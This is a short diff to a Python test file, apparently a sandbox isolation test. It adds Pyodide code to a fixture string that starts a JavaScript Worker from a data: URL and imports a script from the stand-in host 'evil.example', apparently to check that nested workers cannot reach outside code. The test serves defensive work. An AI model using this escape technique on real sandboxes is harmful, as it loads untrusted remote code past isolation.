@@ -236,6 +236,10 @@ def test_a_bot_sees_no_page_and_no_storage(elsewhere: Elsewhere) -> None:
 
 REACH = f"""
 import asyncio, js
+from pyodide.ffi import to_js
+
+module = to_js({{"type": "module"}}, dict_converter=js.Object.fromEntries)
+js.Worker.new("data:text/javascript,import('https://evil.example/nested.js')", module)
 
 async def reach(url):
     try:
